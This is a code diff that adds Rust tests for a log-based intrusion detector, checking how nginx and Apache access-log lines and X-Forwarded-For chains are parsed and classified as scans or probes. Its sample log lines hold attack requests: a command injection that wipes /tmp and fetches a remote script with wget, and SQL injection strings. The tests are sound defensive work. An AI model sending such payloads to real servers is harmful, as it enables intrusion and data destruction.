@@ -146,3 +146,249 @@ fn apache_overflows_and_old_invalid_uri() {
     expect(AE, N, "[Fri Jun 10 01:24:12 2005] [error] [client 192.0.2.41] request failed: URI too long (longer than 8190)", "192.0.2.41", "invalid_uri");
     expect(AE, N, "[Tue May 14 10:00:03 2024] [core:error] [pid 1] [client 192.0.2.42:1] AH00566: request failed: invalid characters in URI", "192.0.2.42", "invalid_uri");
 }
+
+fn access(filter: &str, mode: Mode, opts_kv: &[(&str, &str)]) -> Box<dyn Filter> {
+    let m = opts_kv
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    palisade_filter::build_builtin_with(filter, &opts(mode), &m).unwrap()
+}
+
+#[track_caller]
+fn expect_f(f: &mut dyn Filter, line: &str, ip: &str, rule: &str) -> Event {
+    let e = run(f, line)
+        .1
+        .unwrap_or_else(|| panic!("no event for {line}"));
+    assert_eq!(e.ip.to_string(), ip, "{line}");
+    assert_eq!(&*e.rule, rule, "{line}");
+    e
+}
+
+#[test]
+fn access_presets() {
+    // combined and common: the built-in parser.
+    for preset in ["combined", "common"] {
+        let mut f = access("nginx_access", N, &[("log_format", preset)]);
+        expect_f(
+            &mut *f,
+            r#"192.0.2.1 - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8""#,
+            "192.0.2.1",
+            "scanner_path",
+        );
+        expect_f(
+            &mut *f,
+            r#"192.0.2.1 - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153"#,
+            "192.0.2.1",
+            "scanner_path",
+        );
+    }
+    // vhost_combined: the virtual host and port come first; the address is the second field.
+    let mut f = access("apache_access", N, &[("log_format", "vhost_combined")]);
+    let e = expect_f(
+        &mut *f,
+        r#"www.example.org:443 192.0.2.2 - - [10/Oct/2024:13:55:36 +0200] "GET /wp-login.php HTTP/1.1" 404 196 "-" "Mozilla/5.0""#,
+        "192.0.2.2",
+        "scanner_path",
+    );
+    assert_eq!(e.time.to_string(), "2024-10-10T11:55:36Z");
+    expect_f(
+        &mut *f,
+        r#"www.example.org:80 2001:db8::7 - admin [10/Oct/2024:13:55:36 +0200] "GET /admin/ HTTP/1.1" 401 381 "-" "Mozilla/5.0""#,
+        "2001:db8::7",
+        "http_auth",
+    );
+    // The plain combined parser misses such lines (they start with the vhost).
+    none(
+        "apache_access",
+        N,
+        r#"www.example.org:443 192.0.2.2 - - [10/Oct/2024:13:55:36 +0200] "GET /wp-login.php HTTP/1.1" 404 196 "-" "Mozilla/5.0""#,
+    );
+    // combined_xff without trusted proxies: the peer, whatever the header says.
+    let mut f = access("nginx_access", N, &[("log_format", "combined_xff")]);
+    expect_f(
+        &mut *f,
+        r#"203.0.113.5 - - [10/Oct/2024:13:55:36 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "x" "198.51.100.1""#,
+        "203.0.113.5",
+        "scanner_path",
+    );
+    // A custom nginx format beginning with the forwarded-for list, with the ISO time.
+    let fmt = r#"$http_x_forwarded_for - $remote_user [$time_iso8601] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $remote_addr"#;
+    let mut f = access(
+        "nginx_access",
+        N,
+        &[("log_format", fmt), ("trusted_proxies", "10.0.0.0/8")],
+    );
+    let e = expect_f(
+        &mut *f,
+        r#"198.51.100.9, 10.0.0.3 - - [2024-10-10T13:55:36+02:00] "GET /.env HTTP/1.1" 404 153 "-" "x" 10.0.0.4"#,
+        "198.51.100.9",
+        "scanner_path",
+    );
+    assert_eq!(e.time.to_string(), "2024-10-10T11:55:36Z");
+    // An Apache LogFormat string as written in httpd.conf.
+    let fmt = r#"%a %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" %D"#;
+    let mut f = access("apache_access", N, &[("log_format", fmt)]);
+    expect_f(
+        &mut *f,
+        r#"192.0.2.3 - - [10/Oct/2024:13:55:36 +0000] "GET /?x=%3Cscript%3E HTTP/1.1" 200 5 "-" "Mozilla/5.0" 1234"#,
+        "192.0.2.3",
+        "probe",
+    );
+    // Bad options are clear errors.
+    let bad = |k: &str, v: &str| {
+        let m = [(k.to_string(), v.to_string())].into_iter().collect();
+        palisade_filter::build_builtin_with("nginx_access", &opts(N), &m)
+            .err()
+            .unwrap()
+            .to_string()
+    };
+    assert!(bad("log_format", "%h %t").contains("request"));
+    assert!(bad("trusted_proxies", "10.0.0.0/8").contains("X-Forwarded-For"));
+    assert!(bad("nope", "1").contains("unknown option"));
+    let m = [("log_format".to_string(), "combined".to_string())]
+        .into_iter()
+        .collect();
+    assert!(palisade_filter::build_builtin_with("sshd", &opts(N), &m).is_err());
+}
+
+#[test]
+fn access_xff_chains() {
+    let mut f = access(
+        "nginx_access",
+        N,
+        &[
+            ("log_format", "combined_xff"),
+            ("trusted_proxies", "10.0.0.0/8, 2001:db8:cd::/48"),
+        ],
+    );
+    let l = |peer: &str, xff: &str| {
+        format!(
+            r#"{peer} - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8" "{xff}""#
+        )
+    };
+    // Behind the CDN edge: the right-most untrusted entry; spoofed left-most entries are
+    // never blamed.
+    expect_f(
+        &mut *f,
+        &l("10.0.0.1", "1.1.1.1, 8.8.8.8, 198.51.100.20"),
+        "198.51.100.20",
+        "scanner_path",
+    );
+    expect_f(
+        &mut *f,
+        &l("10.0.0.1", "1.1.1.1, 198.51.100.21, 10.9.9.9"),
+        "198.51.100.21",
+        "scanner_path",
+    );
+    expect_f(
+        &mut *f,
+        &l("2001:db8:cd::1", "2001:db8::66"),
+        "2001:db8::66",
+        "scanner_path",
+    );
+    // A client that is not a trusted proxy: its header is ignored.
+    expect_f(
+        &mut *f,
+        &l("198.51.100.22", "10.0.0.1, 1.1.1.1"),
+        "198.51.100.22",
+        "scanner_path",
+    );
+    // A trusted peer without a usable client: nobody is blamed, least of all the proxy.
+    for xff in ["-", "10.0.0.7", "198.51.100.1, not-an-ip"] {
+        let (o, e) = run(&mut *f, &l("10.0.0.1", xff));
+        assert_eq!(o, Outcome::Ignored, "{xff}");
+        assert!(e.is_none());
+    }
+}
+
+#[test]
+fn access_readers_are_not_flagged_in_normal_mode() {
+    let g = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+    let b = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+    for (req, st, ua) in [
+        ("GET /blog/tags/shell?page=2 HTTP/1.1", 200, g),
+        ("GET /blog/tags/shell?page=2 HTTP/1.1", 404, g),
+        ("GET /search?q=O%27Reilly+books HTTP/2.0", 200, b),
+        ("GET /authors/O%27Reilly HTTP/2.0", 404, b),
+        ("GET /docs/backup.html HTTP/1.1", 200, g),
+        ("GET /docs/backup.html HTTP/1.1", 404, b),
+        (
+            "GET /blog/downloading-files-with-wget+http-basic-auth HTTP/2.0",
+            200,
+            b,
+        ),
+        ("GET /search?q=wget+http+proxy HTTP/2.0", 200, b),
+        ("GET /info.php?id=3 HTTP/1.1", 200, b),
+        ("GET /wiki/info.php HTTP/1.1", 404, b),
+        ("GET /shell HTTP/1.1", 200, b),
+    ] {
+        let line = format!(
+            r#"192.0.2.50 - - [10/Oct/2024:13:55:36 +0000] "{req}" {st} 512 "https://example.org/" "{ua}""#
+        );
+        none("nginx_access", N, &line);
+    }
+    // The same words in scanner positions still count.
+    for (req, st, rule) in [
+        (
+            "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh HTTP/1.1",
+            200,
+            "probe",
+        ),
+        (
+            "GET /cgi-bin/x?cmd=wget+http://198.51.100.7/x.sh HTTP/1.1",
+            404,
+            "probe",
+        ),
+        ("GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1", 200, "probe"),
+        ("GET /item?id=1%27+and+1=1-- HTTP/1.1", 200, "probe"),
+        ("GET /info.php HTTP/1.1", 404, "scanner_path"),
+        ("GET /shell?x HTTP/1.1", 404, "scanner_path"),
+        ("GET /backup.zip HTTP/1.1", 404, "scanner_path"),
+    ] {
+        let line = format!(
+            r#"192.0.2.51 - - [10/Oct/2024:13:55:36 +0000] "{req}" {st} 153 "-" "Mozilla/5.0""#
+        );
+        expect("nginx_access", N, &line, "192.0.2.51", rule);
+    }
+}
+
+#[test]
+fn font_404s_from_the_sites_own_page_are_not_a_scan() {
+    let mut f = build_builtin("nginx_access", &opts(A)).unwrap();
+    for font in [
+        "/static/fonts/inter-var.woff2",
+        "/static/fonts/inter-var.woff",
+        "/static/fonts/inter.ttf",
+        "/static/fonts/icons.eot?#iefix",
+        "/static/fonts/icons.svg",
+        "/static/css/print.css",
+    ] {
+        let line = format!(
+            r#"192.0.2.60 - - [10/Oct/2024:13:55:36 +0000] "GET {font} HTTP/2.0" 404 153 "https://example.org/blog/post" "Mozilla/5.0""#
+        );
+        let (o, e) = run(&mut *f, &line);
+        assert!(e.is_none() && o == Outcome::Missed, "{line}");
+    }
+    // Without a referrer (or with another site's, when the vhost is known) it still counts.
+    expect(
+        "nginx_access",
+        A,
+        r#"192.0.2.61 - - [10/Oct/2024:13:55:36 +0000] "GET /static/fonts/x.woff2 HTTP/1.1" 404 153 "-" "Mozilla/5.0""#,
+        "192.0.2.61",
+        "not_found",
+    );
+    let mut f = access("apache_access", A, &[("log_format", "vhost_combined")]);
+    let own = r#"example.org:443 192.0.2.62 - - [10/Oct/2024:13:55:36 +0000] "GET /fonts/a.woff2 HTTP/1.1" 404 153 "https://example.org/" "Mozilla/5.0""#;
+    assert!(run(&mut *f, own).1.is_none());
+    let other = r#"example.org:443 192.0.2.62 - - [10/Oct/2024:13:55:36 +0000] "GET /fonts/a.woff2 HTTP/1.1" 404 153 "https://evil.example/" "Mozilla/5.0""#;
+    expect_f(&mut *f, other, "192.0.2.62", "not_found");
+    // A page (not an asset) 404 with a referrer is still an aggressive-mode event.
+    expect(
+        "nginx_access",
+        A,
+        r#"192.0.2.63 - - [10/Oct/2024:13:55:36 +0000] "GET /old/page HTTP/1.1" 404 153 "https://example.org/" "Mozilla/5.0""#,
+        "192.0.2.63",
+        "not_found",
+    );
+}
